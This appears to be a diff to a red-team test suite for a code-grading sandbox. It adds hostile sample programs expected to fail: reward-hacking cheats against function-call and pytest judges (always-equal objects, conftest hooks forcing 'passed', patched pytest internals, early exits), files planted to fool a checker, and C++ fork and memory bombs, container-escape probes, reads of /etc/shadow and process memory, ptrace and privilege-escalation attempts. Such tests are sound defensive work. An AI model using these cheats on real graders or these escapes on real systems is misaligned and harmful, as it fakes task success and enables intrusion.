@@ -210,6 +210,53 @@ ABS_AREA = problem_from_record(
         "code": "import math\n\n\ndef area(r):\n    return math.pi * r * r\n",
     }
 )
+# The call and pytest judges: a function called with JSON arguments (TACO's shape), a test file
+# that imports the program (KodCode's shape), and one that takes the program's names with
+# ``from solution import *`` next to builtins and pytest.
+CALL_ADD = problem_from_record(
+    {
+        "problem_id": "redteam/call_add",
+        "question": "Write add(a, b): the sum of a and b.",
+        "starter_code": "def add(a, b):\n\t",
+        "input_output": {
+            "fn_name": "add",
+            "inputs": [[2, 3], [-4, 1], [10, 0]],
+            "outputs": [[5], [-3], [10]],
+        },
+        "solutions": ["def add(a, b):\n    return a + b\n"],
+    }
+)
+PYTEST_ADD = problem_from_record(
+    {
+        "question_id": "redteam/pytest_add",
+        "question": "Write add(a, b): the sum of a and b.",
+        "solution": "def add(a, b):\n    return a + b\n",
+        "test": (
+            "import pytest\nfrom solution import add\n\n\n"
+            "def test_small():\n    assert add(2, 3) == 5\n\n\n"
+            "@pytest.mark.parametrize('a, b, total', [(-4, 1, -3), (10, 0, 10)])\n"
+            "def test_more(a, b, total):\n    assert add(a, b) == total\n\n\n"
+            "def test_float():\n    assert add(0.1, 0.2) == pytest.approx(0.3)\n"
+        ),
+        "test_info": [{"function_name": "add"}],
+    }
+)
+PYTEST_STAR = problem_from_record(
+    {
+        "question_id": "redteam/pytest_star",
+        "question": "Write evens(xs), the even numbers of xs, and mean_of(xs), their mean.",
+        "solution": (
+            "def evens(xs):\n    return [x for x in xs if x % 2 == 0]\n\n\n"
+            "def mean_of(xs):\n    return sum(xs) / len(xs)\n"
+        ),
+        "test": (
+            "import pytest\nfrom solution import *\n\n\n"
+            "def test_evens():\n    assert sorted(evens([4, 1, 2])) == [2, 4]\n\n\n"
+            "def test_mean():\n    assert mean_of([1, 2]) == pytest.approx(1.5)\n"
+        ),
+        "test_info": [{"function_name": "evens"}, {"function_name": "mean_of"}],
+    }
+)
 PROBLEMS = {
     p.task_id: p
     for p in (
@@ -233,6 +280,9 @@ PROBLEMS = {
         WRAP,
         POSITIVE,
         ABS_AREA,
+        CALL_ADD,
+        PYTEST_ADD,
+        PYTEST_STAR,
     )
 }
 
@@ -1849,7 +1899,242 @@ AVAILABILITY_ATTACKS = [
     ),
 ]
 
-ATTACKS = CHEATS + RESOURCE_ATTACKS + IO_ATTACKS + AVAILABILITY_ATTACKS + POOL_BREAKERS
+# Cheats against the call and pytest judges: each would pass where the program and the test
+# harness share a process (APPS' testing_util, rllm's KodCode reward runs pytest on solution.py
+# and reads its exit status).
+_PYTEST_SABOTAGE = """
+import os
+import sys
+
+# a conftest and a pytest.ini wherever pytest might look, and pytest's own modules patched
+HOOK = (
+    "import pytest\\n"
+    "@pytest.hookimpl(hookwrapper=True)\\n"
+    "def pytest_runtest_makereport(item, call):\\n"
+    "    outcome = yield\\n"
+    "    outcome.get_result().outcome = 'passed'\\n"
+)
+for folder in ("/work", "/tmp", "/dev/shm", os.getcwd()):
+    for name, text in (
+        ("conftest.py", HOOK),
+        ("pytest.ini", "[pytest]\\naddopts = -p conftest --co\\n"),
+        ("pyproject.toml", "[tool.pytest.ini_options]\\naddopts = '--co'\\n"),
+        ("test_solution.py", "def test_x():\\n    pass\\n"),
+    ):
+        try:
+            with open(os.path.join(folder, name), "w") as stream:
+                stream.write(text)
+        except OSError:
+            pass
+sys.path.append("/usr/lib/python3/dist-packages")
+try:
+    import _pytest.runner
+    import _pytest.assertion.rewrite
+
+    _pytest.runner.call_and_report = lambda *a, **k: None
+    _pytest.assertion.rewrite.rewrite_asserts = lambda *a, **k: None
+except ImportError:
+    pass
+os.environ["PYTEST_ADDOPTS"] = "--co"
+"""
+FORM_ATTACKS = [
+    Attack(
+        "call_always_equal_result",
+        program("""
+        class Equal:
+            def __eq__(self, other):
+                return True
+
+            __hash__ = object.__hash__
+
+
+        def add(a, b):
+            return Equal()
+        """),
+        frozenset({FAILED}),
+        CALL_ADD,
+    ),
+    Attack(
+        "call_list_that_equals_anything",
+        program("""
+        class Anything(list):
+            def __eq__(self, other):
+                return True
+
+
+        def add(a, b):
+            return Anything()
+        """),
+        frozenset({FAILED}),
+        CALL_ADD,
+    ),
+    Attack(
+        "call_sequence_of_tuples_posing_as_the_answer",  # APPS' list-of-tuples rule
+        program("""
+        class Pairs:
+            def __getitem__(self, i):
+                return (5,)
+
+            def __iter__(self):
+                return iter([(5,), (-3,), (10,)])
+
+
+        def add(a, b):
+            return Pairs()
+        """),
+        frozenset({FAILED}),
+        CALL_ADD,
+    ),
+    Attack(
+        "call_frames_and_builtins_patched",
+        program("""
+        import builtins
+        import sys
+
+        builtins.isinstance = lambda *a: True
+        builtins.list = lambda *a: [5]
+
+
+        def add(a, b):
+            frame = sys._getframe()
+            while frame.f_back is not None:
+                frame = frame.f_back
+            return frame.f_locals.get("expected", 0)
+        """),
+        frozenset(NOT_PASSED),  # patched builtins break its own replies too
+        CALL_ADD,
+    ),
+    Attack(
+        "call_solution_class_that_answers_any_method",
+        program("""
+        class Solution:
+            def __getattr__(self, name):
+                return lambda *args: [args]
+        """),
+        frozenset({FAILED}),
+        CALL_ADD,
+    ),
+    Attack(
+        "call_os_exit_0_in_the_call",
+        program("""
+        import os
+
+
+        def add(a, b):
+            os._exit(0)
+        """),
+        frozenset(NOT_PASSED),
+        CALL_ADD,
+    ),
+    Attack(
+        "call_keyboard_interrupt_in_the_call",
+        program("""
+        def add(a, b):
+            raise KeyboardInterrupt
+        """),
+        frozenset(NOT_PASSED),
+        CALL_ADD,
+    ),
+    Attack(
+        "pytest_conftest_ini_and_patched_pytest",
+        _PYTEST_SABOTAGE + "\n\ndef add(a, b):\n    return 0\n",
+        frozenset({FAILED}),
+        PYTEST_ADD,
+        wall_time_s=8.0,  # it imports pytest itself, beside the judge's: slow on a busy machine
+        cpu_time_s=8.0,
+    ),
+    Attack(
+        "pytest_sys_exit_0_at_load",
+        program("""
+        import sys
+
+        sys.exit(0)
+
+
+        def add(a, b):
+            return a + b
+        """),
+        frozenset({RUNTIME_ERROR}),
+        PYTEST_ADD,
+    ),
+    Attack(
+        "pytest_os_exit_0_in_a_test",
+        program("""
+        import os
+
+
+        def add(a, b):
+            os._exit(0)
+        """),
+        frozenset(NOT_PASSED),
+        PYTEST_ADD,
+    ),
+    Attack(
+        "pytest_skip_and_interrupt_raised_by_the_program",
+        program("""
+        class Skipped(BaseException):
+            pass
+
+
+        class Exit(SystemExit):
+            pass
+
+
+        calls = []
+
+
+        def add(a, b):
+            calls.append(1)
+            if len(calls) == 1:
+                raise Skipped("skip me")
+            if len(calls) == 2:
+                raise Exit(0)
+            raise KeyboardInterrupt
+        """),
+        frozenset(NOT_PASSED),
+        PYTEST_ADD,
+    ),
+    Attack(
+        "pytest_import_star_shadows_builtins_pytest_and_tests",
+        program("""
+        def evens(xs):
+            return []
+
+
+        def mean_of(xs):
+            return "anything"
+
+
+        def sorted(xs):
+            return [2, 4]
+
+
+        class pytest:
+            approx = staticmethod(lambda value: "anything")
+
+
+        def test_evens():
+            pass
+
+
+        def test_mean():
+            pass
+
+
+        pytestmark = []
+
+
+        def setup_module(module):
+            pass
+        """),
+        frozenset({FAILED}),
+        PYTEST_STAR,
+    ),
+]
+
+ATTACKS = (
+    CHEATS + RESOURCE_ATTACKS + IO_ATTACKS + AVAILABILITY_ATTACKS + POOL_BREAKERS + FORM_ATTACKS
+)
 
 
 def _answer(problem: Problem, code: str) -> dict[str, str]:
@@ -2161,3 +2446,477 @@ JUDGE_CACHE_TESTS = (
 )
 LARGE_RESULT = "def f(n):\n    return list(range(n))\n"
 LARGE_RESULT_TESTS = ("assert f(800_000) == list(range(800_000))",)
+
+
+# -- an io problem judged by a checker program (many right answers); its job runs after the
+# program's, in a swept container, so nothing the program leaves can reach it.
+SPLIT_CHECKER = """
+import sys
+
+n = int(open(sys.argv[1]).read())
+tokens = open(sys.argv[3]).read().split()
+ok = (
+    len(tokens) == 2
+    and all(token.isdigit() for token in tokens)
+    and int(tokens[0]) > 0
+    and int(tokens[1]) > 0
+    and int(tokens[0]) + int(tokens[1]) == n
+)
+sys.exit(0 if ok else 1)
+"""
+SPLIT = Problem(
+    task_id="redteam/split",
+    prompt="Read n (n >= 2). Print two positive integers whose sum is n.",
+    io=tuple(IOCase(input=f"{n}\n", output=f"1 {n - 1}\n") for n in (2, 7, 100)),
+    checker={"kind": "program", "source": SPLIT_CHECKER},
+    canonical_solution="n = int(input())\nprint(1, n - 1)\n",
+)
+CHECKED_HONEST = [
+    "n = int(input())\nprint(n - 1, 1)\n",
+    "n = int(input())\nprint(n // 2, n - n // 2)\n",
+]
+CHECKER_ATTACKS = {
+    "prints_the_score_a_checker_would": "print(1)\nprint('ok')\n",
+    "leaves_files_and_a_process_for_the_checker": program("""
+        import os
+        import time
+
+        def plant():
+            for name, text in (
+                ("output.txt", "1 1\\n"),
+                ("input.txt", "2\\n"),
+                ("expected.txt", "1 1\\n"),
+                ("checker.py", "import sys\\nsys.exit(0)\\n"),
+            ):
+                for folder in ("/work", "/tmp", "/dev/shm"):
+                    try:
+                        with open(os.path.join(folder, name), "w") as stream:
+                            stream.write(text)
+                    except OSError:
+                        pass
+
+        plant()
+        if os.fork() == 0:
+            os.setsid()
+            for _ in range(200):
+                plant()
+                time.sleep(0.05)
+            os._exit(0)
+        print(0, 0)
+        """),
+    "answers_that_break_the_checker": "print('1e999 -1e999')\n",
+    "exits_0_with_nothing": "import os\nos._exit(0)\n",
+}
+
+
+# -- C++ (issue 25): native binaries under the same guarantees. Each program answers the io
+# problem "read n, print n squared" (stdin 7): an escape or a cheat that worked prints 49 and
+# the suite asserts that nothing passes. The verifier does not take C++ yet, so the suite runs
+# these as sandbox jobs (language "cpp") and compares the output itself.
+
+COMPILE_ERROR = "compile_error"
+CPP_STDIN, CPP_EXPECTED = "7\n", "49"
+
+_CPP_HEADER = """
+#include <bits/stdc++.h>
+#include <arpa/inet.h>
+#include <fcntl.h>
+#include <glob.h>
+#include <sched.h>
+#include <signal.h>
+#include <sys/ipc.h>
+#include <sys/mman.h>
+#include <sys/ptrace.h>
+#include <sys/shm.h>
+#include <sys/socket.h>
+#include <sys/stat.h>
+#include <sys/uio.h>
+#include <sys/un.h>
+#include <sys/wait.h>
+#include <unistd.h>
+using namespace std;
+
+// The pids of every process but this one.
+vector<int> others() {
+  vector<int> pids;
+  for (auto &entry : filesystem::directory_iterator("/proc")) {
+    string name = entry.path().filename();
+    if (all_of(name.begin(), name.end(), ::isdigit) && stoi(name) != getpid())
+      pids.push_back(stoi(name));
+  }
+  return pids;
+}
+"""
+
+
+def cpp(body: str) -> str:
+    """A C++ program: the shared header (``<bits/stdc++.h>`` first, so it compiles from the
+    precompiled header), then ``body``."""
+    return _CPP_HEADER + textwrap.dedent(body)
+
+
+@dataclass(frozen=True)
+class CppAttack:
+    """A hostile C++ program and the statuses it may end with: the job's ``compile_error``,
+    else its case's status, with ``failed`` for one that completed with a wrong answer."""
+
+    id: str
+    program: str
+    expect: frozenset[str]
+    compile_time_s: float = 5.0
+
+
+CPP_HONEST = cpp("int main() { long long n; cin >> n; cout << n * n << endl; }\n")
+
+CPP_ATTACKS = [
+    # -- processes, memory, output, time
+    CppAttack("cpp_fork_bomb", cpp("int main() { while (true) fork(); }"), frozenset({TIMEOUT})),
+    CppAttack(
+        "cpp_fork_bomb_of_spinners",
+        cpp("int main() { while (true) if (fork() == 0) while (true) {} }"),
+        frozenset({TIMEOUT}),
+    ),
+    CppAttack(
+        "cpp_thread_bomb_spinning",
+        cpp("""
+        int main() {
+          vector<thread> spinners;
+          for (int i = 0; i < 64; i++) {
+            try { spinners.emplace_back([] { while (true) {} }); } catch (...) {}
+          }
+          while (true) {}
+        }
+        """),
+        frozenset({TIMEOUT}),
+    ),
+    CppAttack(
+        "cpp_memory_bomb_new",
+        cpp("""
+        int main() {
+          vector<char *> hog;
+          while (true) { hog.push_back(new char[1 << 24]); memset(hog.back(), 1, 1 << 24); }
+        }
+        """),
+        frozenset({MEMORY_LIMIT}),
+    ),
+    CppAttack(  # malloc's NULL written to: a crash, not a pass
+        "cpp_memory_bomb_unchecked_malloc",
+        cpp("int main() { while (true) memset(malloc(1 << 24), 1, 1 << 24); }"),
+        frozenset({MEMORY_LIMIT, RUNTIME_ERROR}),
+    ),
+    CppAttack(  # each process within its address space, together over the container's memory
+        "cpp_memory_bomb_across_processes",
+        cpp("""
+        int main() {
+          for (int i = 0; i < 14; i++)
+            if (fork() == 0) {
+              char *hog = (char *)malloc(200 << 20);
+              if (hog) memset(hog, 1, 200 << 20);
+              sleep(30);
+              _exit(0);
+            }
+          sleep(1);
+        }
+        """),
+        NOT_PASSED | {MEMORY_LIMIT, TIMEOUT},
+    ),
+    CppAttack(  # static data over the memory limit: the kernel cannot load it
+        "cpp_static_array_over_the_memory_limit",
+        cpp("""
+        static char hog[1 << 30];
+        int main() { memset(hog, 1, sizeof hog); cout << 49 << endl; }
+        """),
+        frozenset({MEMORY_LIMIT, RUNTIME_ERROR}),
+    ),
+    CppAttack(
+        "cpp_stack_overflow",
+        cpp("""
+        int down(int n) { volatile char pad[4096]; pad[0] = n; return down(n + 1) + pad[0]; }
+        int main() { return down(0); }
+        """),
+        frozenset({RUNTIME_ERROR}),
+    ),
+    CppAttack(
+        "cpp_stdout_flood",
+        cpp("int main() { string x(10000, 'x'); while (true) cout << x << '\\n'; }"),
+        frozenset({OUTPUT_LIMIT}),
+    ),
+    CppAttack(
+        "cpp_stdout_flood_one_write",
+        cpp("""
+        int main() {
+          size_t size = 100 << 20;
+          char *x = (char *)malloc(size);
+          memset(x, 'x', size);
+          return write(1, x, size) < 0;
+        }
+        """),
+        frozenset({OUTPUT_LIMIT}),
+    ),
+    CppAttack(
+        "cpp_orphan_floods_after_exit",
+        cpp("""
+        int main() {
+          if (fork() == 0) { string x(10000, 'x'); while (true) cout << x << endl; }
+          long long n; cin >> n; cout << n * n << endl;
+        }
+        """),
+        frozenset({OUTPUT_LIMIT}),
+    ),
+    CppAttack(
+        "cpp_spin_ignoring_signals",
+        cpp("""
+        int main() {
+          for (int sig : {SIGTERM, SIGXCPU, SIGINT, SIGHUP, SIGALRM}) signal(sig, SIG_IGN);
+          while (true) {}
+        }
+        """),
+        frozenset({TIMEOUT}),
+    ),
+    CppAttack(
+        "cpp_sleep_forever", cpp("int main() { while (true) pause(); }"), frozenset({TIMEOUT})
+    ),
+    CppAttack("cpp_self_sigstop", cpp("int main() { raise(SIGSTOP); }"), frozenset({TIMEOUT})),
+    CppAttack(
+        "cpp_tmpfs_and_inodes_fill",
+        cpp("""
+        int main() {
+          string chunk(1 << 20, 'x');
+          for (string dir : {"/work", "/tmp", "/dev/shm"}) {
+            for (int i = 0; i < 100; i++) {
+              ofstream out(dir + "/fill" + to_string(i));
+              for (int j = 0; j < 8 && out; j++) out << chunk;
+              if (!out) break;
+            }
+            for (int i = 0; i < 100000 && mkdir((dir + "/d" + to_string(i)).c_str(), 0700) == 0; i++) {}
+          }
+        }
+        """),
+        NOT_PASSED,
+    ),
+    # -- signals: the supervisor, the zygote, the judge and other containers are out of reach
+    CppAttack(
+        "cpp_kill_everything",
+        cpp("""
+        int main() {
+          for (int pid : others()) { kill(pid, SIGSTOP); kill(pid, SIGKILL); }
+          for (int target : {1, getppid(), -1}) kill(target, SIGKILL);
+        }
+        """),
+        frozenset({FAILED}),  # kill(-1) spares the caller: it ends, printing nothing
+    ),
+    CppAttack(
+        "cpp_self_sigkill", cpp("int main() { raise(SIGKILL); }"), frozenset({RUNTIME_ERROR})
+    ),
+    CppAttack(
+        "cpp_realtime_signal_death",
+        cpp("int main() { signal(SIGRTMAX, SIG_DFL); raise(SIGRTMAX); }"),
+        frozenset({RUNTIME_ERROR}),
+    ),
+    # -- escapes: each prints the right answer only if it worked
+    CppAttack(
+        "cpp_network_escape",
+        cpp("""
+        bool tcp(const char *host, int port) {
+          int s = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
+          sockaddr_in a{}; a.sin_family = AF_INET; a.sin_port = htons(port);
+          inet_pton(AF_INET, host, &a.sin_addr);
+          connect(s, (sockaddr *)&a, sizeof a);
+          usleep(100000);
+          int error = 1; socklen_t length = sizeof error;
+          getsockopt(s, SOL_SOCKET, SO_ERROR, &error, &length);
+          bool ok = s >= 0 && error == 0 && send(s, "x", 1, MSG_NOSIGNAL) == 1;
+          close(s);
+          return ok;
+        }
+        int main() {
+          bool escaped = false;
+          for (auto [host, port] : vector<pair<const char *, int>>{
+                   {"127.0.0.1", 22}, {"127.0.0.1", 2375}, {"172.17.0.1", 2375},
+                   {"172.17.0.1", 80}, {"1.1.1.1", 53}, {"8.8.8.8", 53}, {"169.254.169.254", 80}})
+            escaped |= tcp(host, port);
+          int udp = socket(AF_INET, SOCK_DGRAM, 0);
+          sockaddr_in dns{}; dns.sin_family = AF_INET; dns.sin_port = htons(53);
+          inet_pton(AF_INET, "8.8.8.8", &dns.sin_addr);
+          escaped |= sendto(udp, "x", 1, 0, (sockaddr *)&dns, sizeof dns) == 1;
+          for (const char *path : {"/var/run/docker.sock", "/run/docker.sock",
+                                   "/run/containerd/containerd.sock"}) {
+            int s = socket(AF_UNIX, SOCK_STREAM, 0);
+            sockaddr_un a{}; a.sun_family = AF_UNIX; strcpy(a.sun_path, path);
+            escaped |= connect(s, (sockaddr *)&a, sizeof a) == 0;
+          }
+          cout << (escaped ? 49 : -1) << endl;
+        }
+        """),
+        frozenset({FAILED}),
+    ),
+    CppAttack(
+        "cpp_write_outside_the_work_dirs",
+        cpp("""
+        int main() {
+          int written = 0;
+          vector<string> targets = {
+              "/escape", "/etc/passwd", "/opt/codepost/runner/supervisor.py",
+              "/opt/codepost/runner/languages/cpp.py", "/usr/bin/g++", "/usr/bin/python3",
+              "/proc/1/oom_score_adj", "/proc/sys/kernel/core_pattern",
+              "/sys/fs/cgroup/cgroup.procs", "/sys/fs/cgroup/pids.max", "/build/escape"};
+          glob_t headers;  // the precompiled header, read by every later compile
+          glob("/usr/include/*/c++/*/bits/stdc++.h.gch", 0, nullptr, &headers);
+          for (size_t i = 0; i < headers.gl_pathc; i++) targets.push_back(headers.gl_pathv[i]);
+          for (auto &path : targets) written += (bool)ofstream(path, ios::app);
+          for (const char *path : {"/", "/build", "/opt/codepost", "/usr/include"})
+            written += chmod(path, 0777) == 0;
+          written += symlink("/etc/passwd", "/build/link") == 0;
+          cout << (written ? 49 : -1) << endl;
+        }
+        """),
+        frozenset({FAILED}),
+    ),
+    CppAttack(
+        "cpp_read_other_users_memory_and_files",
+        cpp("""
+        int main() {
+          int read_something = 0;
+          for (int pid : others()) {
+            for (string file : {"mem", "environ"}) {
+              ifstream in("/proc/" + to_string(pid) + "/" + file, ios::binary);
+              char c;
+              read_something += in && in.get(c);
+            }
+            char byte; iovec local{&byte, 1}, remote{(void *)0x400000, 1};
+            read_something += process_vm_readv(pid, &local, 1, &remote, 1, 0) == 1;
+          }
+          for (const char *path : {"/etc/shadow", "/root", "/proc/kcore", "/dev/mem"})
+            read_something += access(path, R_OK) == 0;
+          cout << (read_something ? 49 : -1) << endl;
+        }
+        """),
+        frozenset({FAILED}),
+    ),
+    CppAttack(
+        "cpp_ptrace_every_process",
+        cpp("""
+        int main() {
+          int attached = 0;
+          for (int pid : others()) {
+            attached += ptrace(PTRACE_ATTACH, pid, nullptr, nullptr) == 0;
+            attached += ptrace(PTRACE_SEIZE, pid, nullptr, nullptr) == 0;
+          }
+          cout << (attached ? 49 : -1) << endl;
+        }
+        """),
+        frozenset({FAILED}),
+    ),
+    CppAttack(
+        "cpp_privilege_escalation",
+        cpp("""
+        int main() {
+          int gained = 0;
+          gained += setuid(0) == 0;
+          gained += setgid(0) == 0;
+          gained += seteuid(0) == 0;
+          gained += chroot("/work") == 0;
+          for (int flags : {CLONE_NEWUSER, CLONE_NEWNS, CLONE_NEWNET, CLONE_NEWPID}) {
+            pid_t child = fork();
+            if (child == 0) _exit(unshare(flags) == 0 ? 0 : 1);
+            int status = 1;
+            waitpid(child, &status, 0);
+            gained += WIFEXITED(status) && WEXITSTATUS(status) == 0;
+          }
+          ifstream status("/proc/self/status");
+          for (string line; getline(status, line);)
+            if (line.rfind("CapEff:", 0) == 0) gained += line.find_first_not_of("0", 8) != string::npos;
+          gained += geteuid() == 0;
+          cout << (gained ? 49 : -1) << endl;
+        }
+        """),
+        frozenset({FAILED}),
+    ),
+    # -- the compile phase: untrusted source, trusted compiler, the same isolation and limits
+    CppAttack(
+        "cpp_compile_include_dev_zero",
+        '#include "/dev/zero"\nint main() {}\n',
+        frozenset({COMPILE_ERROR}),
+        compile_time_s=3.0,
+    ),
+    CppAttack(
+        "cpp_compile_include_itself",
+        "#include __FILE__\nint main() {}\n",
+        frozenset({COMPILE_ERROR}),
+        compile_time_s=3.0,
+    ),
+    CppAttack(
+        "cpp_compile_include_root_files",
+        '#include "/proc/1/environ"\n#include "/proc/1/maps"\nint main() {}\n',
+        frozenset({COMPILE_ERROR}),
+        compile_time_s=3.0,
+    ),
+    CppAttack(
+        "cpp_compile_macro_explosion",
+        "#define A0 x\n"
+        + "".join(f"#define A{i} A{i - 1} A{i - 1} A{i - 1} A{i - 1}\n" for i in range(1, 20))
+        + "int main() { A19; }\n",
+        frozenset({COMPILE_ERROR}),
+        compile_time_s=3.0,
+    ),
+    CppAttack(
+        "cpp_compile_constexpr_spin",
+        """
+        constexpr long long spin() {
+          long long s = 0;
+          for (int i = 0; i < 200000; i++)
+            for (int j = 0; j < 200000; j++) s += i ^ j;
+          return s;
+        }
+        static_assert(spin() != 1);
+        int main() {}
+        """,
+        frozenset({COMPILE_ERROR}),
+        compile_time_s=3.0,
+    ),
+    CppAttack(
+        "cpp_compile_error_flood",
+        "int main() {\n" + "".join(f"  undeclared_{n}();\n" for n in range(20000)) + "}\n",
+        frozenset({COMPILE_ERROR}),
+        compile_time_s=3.0,
+    ),
+    CppAttack(
+        "cpp_compile_binary_over_the_file_size_limit",
+        "char data[256 << 20] = {1};\nint main() { return data[7]; }\n",
+        frozenset({COMPILE_ERROR}),
+        compile_time_s=3.0,
+    ),
+]
+
+# Leaves everything it can in the container (the checker then looks, as after LEAVERS).
+CPP_LEAVER = cpp("""
+int main() {
+  if (fork() == 0) {  // a double-forked daemon in its own session, deaf to signals
+    setsid();
+    if (fork() == 0) {
+      for (int sig : {SIGTERM, SIGHUP, SIGINT, SIGUSR1}) signal(sig, SIG_IGN);
+      int listener = socket(AF_INET, SOCK_STREAM, 0);
+      sockaddr_in a{}; a.sin_family = AF_INET; a.sin_port = htons(45679);
+      a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
+      bind(listener, (sockaddr *)&a, sizeof a);
+      listen(listener, 1);
+      while (true) { ofstream("/tmp/cpp-daemon-alive") << time(nullptr); usleep(10000); }
+    }
+    _exit(0);
+  }
+  if (fork() == 0) { raise(SIGSTOP); _exit(0); }
+  for (string d : {"/work", "/tmp", "/dev/shm"}) {
+    ofstream(d + "/plain") << "left";
+    ofstream(d + "/.hidden") << "left";
+    mkfifo((d + "/fifo").c_str(), 0600);
+    symlink("/etc/passwd", (d + "/link").c_str());
+    mkdir((d + "/locked").c_str(), 0700);
+    ofstream(d + "/locked/file") << "left";
+    chmod((d + "/locked").c_str(), 0);
+  }
+  int segment = shmget(0x5EC9, 4096, IPC_CREAT | 0600);
+  if (segment >= 0) shmat(segment, nullptr, 0);
+  usleep(600000);  // keep this container busy so the other one takes the twin job
+  long long n; cin >> n; cout << n * n << endl;
+}
+""")
